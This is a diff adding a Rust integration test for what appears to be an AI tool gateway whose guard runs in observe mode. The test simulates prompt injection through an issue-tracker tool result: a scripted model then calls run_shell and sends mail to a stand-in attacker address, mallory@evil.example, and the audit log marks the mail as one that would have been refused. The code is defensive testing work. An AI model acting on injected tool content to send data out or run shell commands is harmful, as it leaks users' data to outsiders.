@@ -168,6 +168,46 @@ async fn a_recipient_from_the_persons_own_words_is_honoured() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn observing_refuses_nothing_and_tells_what_would_have_been() {
+    let provider = Provider::start(|r| hijacked(r).to(r)).await.unwrap();
+    let outbox = tempfile::tempdir().unwrap();
+    let sections = upstream("m", "openai-compatible", &provider.url())
+        + &servers(outbox.path().to_str().unwrap())
+        + "[guard]\nmode = \"observe\"\n";
+    let site = Site::new(&sections);
+    let key = site.key(&["--name", "app"]);
+    let gateway = site.start_with(KEY);
+    gateway.tools(&key).await;
+    let (issue, _) = gateway.call(&key, "tracker__get_issue", json!({ "id": 7 })).await;
+    let call = json!({
+        "id": "call_0", "type": "function",
+        "function": { "name": "tracker__get_issue", "arguments": "{\"id\":7}" },
+    });
+    let ask = json!({
+        "model": "m/scripted-1", "tools": [tool("mail__send_email"), tool("run_shell")],
+        "messages": [
+            { "role": "user", "content": "Summarise issue 7." },
+            { "role": "assistant", "content": null, "tool_calls": [call] },
+            { "role": "tool", "tool_call_id": "call_0", "content": issue },
+        ],
+    });
+    let (_, answer) = gateway.post("/v1/chat/completions", &key, &ask).await;
+    let sent = provider.recorded().last().unwrap().json();
+    assert_eq!(sent["tools"].as_array().unwrap().len(), 2, "nothing is hidden");
+    let calls = answer["choices"][0]["message"]["tool_calls"].as_array().unwrap();
+    assert_eq!(calls[1]["function"]["name"], "run_shell", "nothing is replaced");
+    let (text, failed) =
+        gateway.call(&key, "mail__send_email", mail_to("mallory@evil.example")).await;
+    assert!(!failed, "{text}");
+    gateway.stop();
+    let story = site.run(&["audit", "show"]).unwrap();
+    assert!(
+        story.contains("mail__send_email  allowed, would be refused by contract.control"),
+        "{story}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn what_a_key_may_not_call_it_does_not_see() {
     let (_provider, site, outbox, gateway, _) = site().await;
     let narrow = site.key(&["--name", "narrow", "--tools", "tracker__*"]);
